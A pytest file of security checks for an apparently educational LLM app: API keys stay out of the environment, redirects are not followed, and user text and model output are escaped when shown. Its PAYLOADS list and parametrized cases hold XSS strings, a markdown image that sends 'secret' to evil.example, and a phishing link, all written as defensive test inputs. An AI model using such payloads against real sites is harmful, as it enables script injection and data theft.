"""Cross-cutting security checks: API keys never leave the session or go where the host's environment points,
clients never follow redirects, custom server URLs, and user text or model output shown literally."""

from __future__ import annotations

import ast
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from core import fmt
from core.errors import UserInputError
from core.llm import client as llm_client
from core.llm import remote
from core.llm.types import ChatRequest, Done
from features.datalab import jobs
from tests import fake_openai
from tests.apptest import plain

ROOT = Path(__file__).resolve().parent.parent
UI_FILES = sorted(
    [*ROOT.glob("pages/*.py"), *ROOT.glob("ui/*.py"), *ROOT.glob("features/**/*.py"), ROOT / "app.py"]
)
CORE_FILES = sorted(ROOT.glob("core/**/*.py"))

ENV_TRAPS = {
    "OPENAI_API_KEY": "sk-host-env-SECRET",
    "OPENAI_ADMIN_KEY": "sk-admin-env-SECRET",
    "OPENAI_ORG_ID": "org-host-SECRET",
    "OPENAI_PROJECT_ID": "proj-host-SECRET",
    "OPENAI_WEBHOOK_SECRET": "whsec-host-SECRET",
    "OPENAI_CUSTOM_HEADERS": "X-Owner-Token: owner-SECRET\nAuthorization: Bearer owner-env-SECRET",
}


@pytest.fixture(scope="module")
def fake() -> Iterator[fake_openai.FakeServer]:
    server = fake_openai.start()
    yield server
    server.close()


@pytest.fixture()
def trap() -> Iterator[fake_openai.FakeServer]:
    """A second server that must never be called (the host's environment points to it)."""
    server = fake_openai.start()
    yield server
    server.close()


@pytest.fixture()
def hostile_env(monkeypatch: pytest.MonkeyPatch, trap: fake_openai.FakeServer) -> fake_openai.FakeServer:
    """Every environment variable the openai SDK would read, set by a careless or hostile host."""
    for name, value in ENV_TRAPS.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("OPENAI_BASE_URL", trap.url)
    return trap


def _run(backend: remote.OpenAIBackend) -> Done:
    request = ChatRequest.from_prompts("", "hi", temperature=0.0, top_p=1.0, max_tokens=8)
    chunks = list(backend.stream(request))
    done = chunks[-1]
    assert isinstance(done, Done)
    return done


# ------------------------------------------------------------------------------------------ environment
def test_server_backend_ignores_every_openai_environment_variable(
    fake: fake_openai.FakeServer, hostile_env: fake_openai.FakeServer
) -> None:
    n = len(fake.requests)
    _run(remote.compatible_backend(fake.url, "echo", "sk-learner-1"))
    assert hostile_env.requests == []
    sent = fake.requests[n]
    assert sent.authorization == "Bearer sk-learner-1"
    assert "openai-organization" not in sent.headers
    assert "openai-project" not in sent.headers
    assert "x-owner-token" not in sent.headers
    assert "SECRET" not in repr(sent.headers)


def test_server_without_key_sends_the_placeholder_never_the_hosts_key(
    fake: fake_openai.FakeServer, hostile_env: fake_openai.FakeServer
) -> None:
    n = len(fake.requests)
    _run(remote.compatible_backend(fake.url, "echo", None))
    assert fake.requests[n].authorization == f"Bearer {remote.NO_KEY_PLACEHOLDER}"
    assert "SECRET" not in repr(fake.requests[n].headers)


def test_openai_backend_goes_to_openai_even_when_the_environment_says_otherwise(
    hostile_env: fake_openai.FakeServer,
) -> None:
    backend = remote.OpenAIBackend(model="gpt-4o-mini", api_key="sk-learner-2")
    client = backend._client()
    try:
        assert str(client.base_url).rstrip("/") == remote.OPENAI_BASE_URL
        assert client.api_key == "sk-learner-2"
        headers = {k.lower(): v for k, v in client.default_headers.items() if isinstance(v, str)}
        assert "openai-organization" not in headers and "openai-project" not in headers
        assert "x-owner-token" not in headers
        assert client.admin_api_key is None and client.webhook_secret is None
    finally:
        client.close()


def test_data_lab_client_is_aimed_at_openai_with_the_learners_key_only(
    hostile_env: fake_openai.FakeServer,
) -> None:
    with jobs.client_for("  sk-learner-3 ") as client:
        assert str(client.base_url).rstrip("/") == remote.OPENAI_BASE_URL
        assert client.api_key == "sk-learner-3"
        assert client.organization is None and client.project is None
        assert "SECRET" not in repr(client.default_headers)


def test_data_lab_client_needs_a_key() -> None:
    with pytest.raises(UserInputError) as info:
        jobs.client_for("   ")
    assert info.value.key == "datalab.err_api_auth"


def test_make_client_refuses_to_fall_back_to_the_environment() -> None:
    with pytest.raises(ValueError):
        llm_client.make_client(api_key="", base_url=remote.OPENAI_BASE_URL, timeout_s=1, max_retries=0)
    with pytest.raises(ValueError):
        llm_client.make_client(api_key="sk-x", base_url="", timeout_s=1, max_retries=0)


# ------------------------------------------------------------------------------------------ redirects
@pytest.fixture()
def redirector(fake: fake_openai.FakeServer) -> Iterator[str]:
    """A server that answers every request with a redirect to ``fake`` (another host:port)."""

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, format: str, *args: Any) -> None:
            return

        def do_POST(self) -> None:
            self.rfile.read(int(self.headers.get("Content-Length", "0")))
            self.send_response(307)
            self.send_header("Location", fake.url + "/chat/completions")
            self.send_header("Content-Length", "0")
            self.end_headers()

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    host, port = server.server_address[:2]
    yield f"http://{host}:{port}/v1"
    server.shutdown()
    server.server_close()


def test_a_redirect_is_not_followed_so_the_key_stays_with_the_chosen_server(
    fake: fake_openai.FakeServer, redirector: str
) -> None:
    n = len(fake.requests)
    with pytest.raises(UserInputError) as info:
        _run(remote.compatible_backend(redirector, "echo", "sk-learner-4"))
    assert info.value.key == "llm.err_status"
    assert info.value.params["status"] == 307
    assert len(fake.requests) == n  # the redirect target never saw the request (nor the key)


# ------------------------------------------------------------------------------------------ static scans
def _tree(path: Path) -> ast.Module:
    return ast.parse(path.read_text(encoding="utf-8"), filename=str(path))


def _dotted(node: ast.AST) -> str:
    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Attribute):
        return f"{_dotted(node.value)}.{node.attr}"
    if isinstance(node, ast.Call):
        return _dotted(node.func)
    if isinstance(node, ast.Subscript):
        return _dotted(node.value)
    return ""


@pytest.mark.parametrize("path", [*UI_FILES, *CORE_FILES], ids=lambda p: str(p.relative_to(ROOT)))
def test_no_environment_writes(path: Path) -> None:
    """Nothing writes to ``os.environ`` (a key there would be shared by every session of the process)."""
    for node in ast.walk(_tree(path)):
        if isinstance(node, ast.Assign | ast.AugAssign | ast.Delete):
            targets = node.targets if isinstance(node, ast.Assign | ast.Delete) else [node.target]
            for target in targets:
                assert "environ" not in _dotted(target), f"{path}:{node.lineno} writes os.environ"
        if isinstance(node, ast.Call):
            name = _dotted(node.func)
            assert not name.endswith(("environ.update", "environ.setdefault", "environ.pop", "putenv")), (
                f"{path}:{node.lineno} calls {name}"
            )
            assert not name.endswith(("getenv", "environ.get")), f"{path}:{node.lineno} reads {name}"


KEYISH = ("key", "secret", "token", "password")


def _cached_functions(path: Path) -> list[ast.FunctionDef]:
    found = []
    for node in ast.walk(_tree(path)):
        if isinstance(node, ast.FunctionDef):
            decorators = [_dotted(d) for d in node.decorator_list]
            if any("cache_data" in d or "cache_resource" in d for d in decorators):
                found.append(node)
    return found


def test_the_cache_scan_finds_the_cached_functions() -> None:
    names = {f.name for f in _cached_functions(ROOT / "ui" / "llm.py")}
    names |= {f.name for f in _cached_functions(ROOT / "features" / "playground" / "widgets.py")}
    assert {"local_model", "playground_content"} <= names


@pytest.mark.parametrize("path", UI_FILES, ids=lambda p: str(p.relative_to(ROOT)))
def test_cached_functions_take_no_key(path: Path) -> None:
    """``st.cache_*`` functions are shared by all sessions: none may take a key or a secret."""
    for node in _cached_functions(path):
        args = [a.arg.lower() for a in [*node.args.args, *node.args.kwonlyargs]]
        assert not [a for a in args if any(word in a for word in KEYISH)], f"{path}:{node.lineno} {args}"
        body = ast.unparse(node)
        assert "session_state" not in body and "secrets" not in body, f"{path}:{node.lineno}"


@pytest.mark.parametrize("path", [*UI_FILES, *CORE_FILES], ids=lambda p: str(p.relative_to(ROOT)))
def test_sdk_clients_are_only_built_by_make_client(path: Path) -> None:
    """Only ``core.llm.client`` constructs ``openai.OpenAI`` (explicit key and URL, no environment)."""
    if path == ROOT / "core" / "llm" / "client.py":
        return
    for node in ast.walk(_tree(path)):
        if isinstance(node, ast.Call):
            name = _dotted(node.func)
            assert name not in ("openai.OpenAI", "OpenAI", "openai.AsyncOpenAI", "AsyncOpenAI"), (
                f"{path}:{node.lineno} builds {name} itself"
            )


# ------------------------------------------------------------------------------------------ custom servers
def test_without_owner_settings_and_proof_of_a_local_run_custom_servers_are_off() -> None:
    """AppTest has no browser connection (no headers, no address): like a hand-made client, not local."""
    from core.i18n import translator
    from tests.apptest import open_page

    at = open_page("pages/playground.py", "en")
    at.radio(key="pg_a_kind").set_value("server").run()
    assert not at.exception
    assert at.text_input(key="pg_server_url").disabled
    assert any(i.value == translator("en")("playground.server_off_hosted") for i in at.info)


# ------------------------------------------------------------------------------------------ markdown / HTML
PAYLOADS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "![x](http://evil.example/t.png?d=secret)",
    "[Your session expired, enter your key](http://evil.example)",
    "<http://evil.example>",
    "http://evil.example/a.png",
    ":red[**shout**] :material/warning: $$x^2$$",
    "line\n# heading\n---\n```\ncode",
    "\\![x](http://evil.example/t.png)",
    "1. $5 - 3",
    "mail me: evil@evil.example, or WWW.evil.example",
]


def _markup_free(rendered: str) -> bool:
    """Every ASCII punctuation character is backslash-escaped (then CommonMark treats it as plain text) —
    except in a formatted number, where only digits, separators and signs occur (and ``$`` is escaped)."""
    import re
    import string

    if re.fullmatch(r"(?=.*[0-9])[0-9.,%+\-\u2212 \u00a0\u202f€]*", rendered.replace("\\$", "")):
        return True
    i = 0
    while i < len(rendered):
        ch = rendered[i]
        if ch == "\\":
            if i + 1 >= len(rendered) or rendered[i + 1] not in string.punctuation:
                return False
            i += 2
            continue
        if ch in string.punctuation or ch in "\n\r":
            return False
        i += 1
    return True


@pytest.mark.parametrize("text", PAYLOADS)
def test_literal_leaves_no_markup(text: str) -> None:
    from core import mdtext

    shown = mdtext.literal(text)
    assert _markup_free(shown)
    # undoing the escapes gives the text back (line breaks become spaces)
    assert plain(shown) == " ".join(text.splitlines())
    # GFM links bare addresses after escapes are resolved: none may be left for it to find
    assert not re.search(r"https?://|www\.|\w@\w", shown.replace("\\", ""), re.IGNORECASE)


def test_literal_leaves_no_markup_for_any_text() -> None:
    from hypothesis import given
    from hypothesis import strategies as st

    from core import mdtext

    @given(st.text(max_size=200))
    def check(text: str) -> None:
        assert _markup_free(mdtext.literal(text))

    check()


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;"),
        ("![x](http://evil.example/t.png)", "!\\[x](http://evil.example/t.png)"),
        (
            "![x][ref]\n\n[ref]: http://evil.example/t.png",
            "!\\[x][ref]  \n  \n[ref]: http://evil.example/t.png",
        ),
        ("\\![x](http://e.example/a.png)", "\\\\!\\[x](http://e.example/a.png)"),
        ("costs $5", "costs \\$5"),
        ("C:\\path", "C:\\\\path"),
        ("[a link](https://example.org) and **bold**", "[a link](https://example.org) and **bold**"),
    ],
)
def test_model_output_keeps_formatting_but_no_html_or_images(text: str, shown: str) -> None:
    from core import mdtext

    assert mdtext.model_output(text) == shown


@pytest.mark.parametrize(
    ("page", "param", "message"),
    [
        ("pages/lessons.py", "lesson", "lessons.unknown"),
        ("pages/tokens.py", "sample", "tokens.unknown_sample"),
        ("pages/playground.py", "pair", "playground.unknown_pair"),
    ],
)
@pytest.mark.parametrize("payload", PAYLOADS[:4])
def test_a_crafted_link_cannot_put_markup_on_a_page(
    page: str, param: str, message: str, payload: str
) -> None:
    """A link someone sends a learner (``?lesson=![x](http://...)``) is echoed literally, never rendered."""
    from core import mdtext
    from core.i18n import translator
    from tests.apptest import open_page

    at = open_page(page, "en", **{param: payload})
    assert not at.exception
    warnings = [w.value for w in at.warning]
    expected = translator("en")(message, **{param: mdtext.literal(payload)})
    assert expected in warnings, warnings
    assert not any(payload in w for w in warnings)


def test_model_output_with_an_image_is_shown_but_never_loaded(fake: fake_openai.FakeServer) -> None:
    from tests.apptest import open_page

    at = open_page("pages/playground.py", "en")
    at.secrets["playground"] = {"allowed_server_urls": [fake.url]}  # a loopback server: listed
    at.radio(key="pg_a_kind").set_value("server").run()
    at.text_input(key="pg_server_url").input(fake.url)
    at.text_input(key="pg_a_server_model").input("image")
    at.text_area(key="pg_user").input("describe")
    at.button(key="pg_run").click().run()
    assert not at.exception
    answers = [m.value for m in at.markdown if "evil.example" in m.value]
    assert answers, "the answer is shown"
    for answer in answers:
        assert "![" not in answer and "!\\[chart]" in answer  # the image syntax is broken, the text stays
        assert "<img" not in answer and "&lt;img" in answer


# ------------------------------------------------------------------------------------------ owner's key
def test_app_ledger_books_the_worst_case_and_refuses_past_the_app_budget() -> None:
    from core.llm import caps

    limits = caps.WorkshopCaps(app_usd=1.0)
    ledger = caps.AppLedger()
    ledger.reserve(limits, 0.6)
    with pytest.raises(UserInputError) as info:
        ledger.reserve(limits, 0.5)  # 0.6 booked + 0.5 > 1.0
    assert (info.value.key, info.value.params) == (
        "llm.cap_app_money",
        {"needed": fmt.Money(0.5), "left": fmt.Money(0.4)},
    )
    ledger.settle(0.6, 0.1)  # the request really cost 0.1
    assert (ledger.spent_usd, ledger.reserved_usd) == (pytest.approx(0.1), 0.0)
    ledger.reserve(limits, 0.5)
    assert ledger.reserved_usd == pytest.approx(0.5)


def test_app_ledger_is_safe_when_sessions_run_in_parallel() -> None:
    from core.llm import caps

    limits = caps.WorkshopCaps(app_usd=5.0)
    ledger = caps.AppLedger()
    granted: list[bool] = []

    def one() -> None:
        try:
            ledger.reserve(limits, 0.25)
            granted.append(True)
        except UserInputError:
            granted.append(False)

    threads = [threading.Thread(target=one) for _ in range(40)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert granted.count(True) == 20  # exactly the budget, never more
    assert ledger.reserved_usd == pytest.approx(5.0)


def test_session_usage_books_the_worst_case_until_settled() -> None:
    from core.llm import caps

    booked = caps.record(caps.SessionUsage(), now=10.0, tokens=556, usd=0.0002)
    assert booked.tokens == 556  # an interrupted run stays counted like this
    settled = caps.settle(booked, reserved_tokens=556, reserved_usd=0.0002, tokens=40, usd=0.00001)
    assert (settled.tokens, settled.usd, settled.request_times) == (40, pytest.approx(0.00001), (10.0,))


@pytest.mark.parametrize("value", [0, -1, "5", True, float("inf")])
def test_malformed_app_budget_is_reported(value: object) -> None:
    from core.llm import caps

    with pytest.raises(UserInputError) as info:
        caps.caps_from_secrets({"app_usd": value})
    assert info.value.params == {"field": "app_usd"}


def test_a_new_session_cannot_spend_past_the_app_wide_workshop_budget() -> None:
    """Per-session budgets alone are reset by opening a new tab; the app-wide one is shared by all."""
    from core.i18n import translator
    from core.llm import caps
    from tests.apptest import open_page
    from ui import llm as ui_llm

    ledger = ui_llm.app_ledger()  # in the app's database: shared by every session and replica
    ledger.reserve(caps.WorkshopCaps(), 4.99999)  # earlier sessions used almost all of the default 5 dollars
    ledger.settle(4.99999, 4.99999)
    at = open_page("pages/playground.py", "en")
    at.secrets["openai"] = {"api_key": "sk-owner-SECRET-8"}
    at.run()
    at.radio(key="pg_a_kind").set_value("openai").run()
    at.radio(key="pg_key_source").set_value("owner").run()
    at.text_input(key="pg_max_tokens").input("100").run()
    at.text_area(key="pg_user").input("hi")
    at.button(key="pg_run").click().run()
    assert not at.exception
    message = translator("en")("llm.cap_app_money", needed="X", left="Y")
    head = message.split("X")[0]
    assert any(plain(e.value).startswith(head) for e in at.error), [e.value for e in at.error]
    assert ledger.balance().reserved_usd == 0.0  # refused before any call
    assert "pg_usage" not in at.session_state or at.session_state["pg_usage"].tokens == 0


# ------------------------------------------------------------------------------------------ runaway servers
def test_a_server_that_ignores_the_output_limit_is_cut_off(fake: fake_openai.FakeServer) -> None:
    backend = remote.compatible_backend(fake.url, "endless", None)
    request = ChatRequest.from_prompts("", "hi", temperature=0.0, top_p=1.0, max_tokens=4)
    shown = ""
    with pytest.raises(UserInputError) as info:
        for chunk in backend.stream(request):
            shown += getattr(chunk, "text", "")
    assert info.value.key == "llm.err_runaway"
    assert 4 * remote.CHARS_PER_TOKEN_CAP < len(shown) < 4 * remote.CHARS_PER_TOKEN_CAP + 20


def test_a_server_that_never_finishes_is_cut_off(fake: fake_openai.FakeServer) -> None:
    backend = remote.compatible_backend(fake.url, "trickle", None)
    backend.max_total_s = 0.5
    request = ChatRequest.from_prompts("", "hi", temperature=0.0, top_p=1.0, max_tokens=4)
    with pytest.raises(UserInputError) as info:
        list(backend.stream(request))
    assert info.value.key == "llm.err_runaway"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("<b>x</b>", "<b>x</b>"),  # a code span shows HTML literally: no entity escaping needed
        ("a`b", "a'b"),  # a backtick would end the span
        ("line1\nline2", "line1 line2"),
        ("", ""),
    ],
)
def test_code_span(text: str, expected: str) -> None:
    from core import mdtext

    assert mdtext.code_span(text) == expected


@pytest.mark.parametrize(
    ("text", "limit", "expected"), [("abcdef", 4, "abc…"), ("abc", 4, "abc"), ("ab", 1, "…")]
)
def test_shorten(text: str, limit: int, expected: str) -> None:
    from core import mdtext

    assert mdtext.shorten(text, limit) == expected
